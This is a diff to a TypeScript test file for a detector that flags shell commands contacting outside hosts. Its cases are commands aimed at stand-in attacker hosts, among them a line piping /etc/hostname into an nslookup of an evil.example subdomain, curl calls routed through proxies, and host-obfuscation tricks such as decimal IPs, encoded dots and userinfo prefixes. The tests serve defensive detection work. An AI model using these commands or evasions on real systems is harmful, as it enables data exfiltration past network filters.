@@ -5,12 +5,8 @@ import { asksOutside } from './outward.ts';
 
 it.each([
   ['curl https://collect.example.org/?d=web-1', 'curl collect.example.org'],
-  ['curl -s --proxy http://evil.example:8080 http://localhost/', 'curl evil.example'],
-  ['curl -x evil.example:3128 http://127.0.0.1/', 'curl evil.example'],
   ['curl --resolve localhost:80:203.0.113.7 http://localhost/', 'curl 203.0.113.7'],
   ['timeout 5 wget -qO- http://203.0.113.7/x', 'wget 203.0.113.7'],
-  ['wget -qO- http://user@203.0.113.7/x', 'wget 203.0.113.7'],
-  ['curl http://127.0.0.1@evil.example/', 'curl evil.example'],
   ['curl http://3405803783/', 'curl 3405803783'],
   ['curl http://[2001:db8::7]/', 'curl 2001:db8::7'],
   ['curl evil.example/x', 'curl evil.example'],
@@ -19,11 +15,10 @@ it.each([
   ['cat /etc/hostname | nslookup x.evil.example', 'nslookup x.evil.example'],
   ['ping -c 1 data.evil.example', 'ping data.evil.example'],
   ['uptime && /usr/bin/host a.evil.example', 'host a.evil.example'],
-  ['git ls-remote https://evil.example/x', 'git evil.example'],
   ['curl http://203.28945/', 'curl 203.28945'],
-  ['openssl s_client -connect evil.example:443', 'openssl evil.example'],
-  ['curl http://evil%2eexample/', 'curl evil%2eexample'],
-  ['curl http://evil[.-.]example/', 'curl evil[.-.]example'],
+  ['openssl s_client -connect evil.example:443 </dev/null', 'openssl evil.example'],
+  ['psql -h db.evil.example -c "select 1"', 'psql db.evil.example'],
+  ['getent hosts x.evil.example', 'getent x.evil.example'],
   ['nc -z evil.example 443', 'nc evil.example'],
 ])('%s goes out', (command, told) => expect(asksOutside(command)).toBe(told));
 
@@ -45,7 +40,16 @@ it.each([
   'not ( a command',
 ])('%s stays', (command) => expect(asksOutside(command)).toBeNull());
 
-it.each(['curl http://evil。example/', 'ping -c 1 evil。example'])(
-  '%s is no read to begin with: a line that cannot be parsed for sure is none',
-  (command) => expect(classify(command).intent).toBe('WriteOrUnknown'),
+it.each([
+  'curl http://evil。example/',
+  'ping -c 1 evil。example',
+  'curl -s --proxy http://evil.example:8080 http://localhost/',
+  'curl -x evil.example:3128 http://127.0.0.1/',
+  'wget -qO- http://user@203.0.113.7/x',
+  'curl http://127.0.0.1@evil.example/',
+  'git ls-remote https://evil.example/x',
+  'curl http://evil%2eexample/',
+  'curl http://evil[.-.]example/',
+])('%s is no read to begin with: the table does not name it', (command) =>
+  expect(classify(command, false).intent).toBe('WriteOrUnknown'),
 );
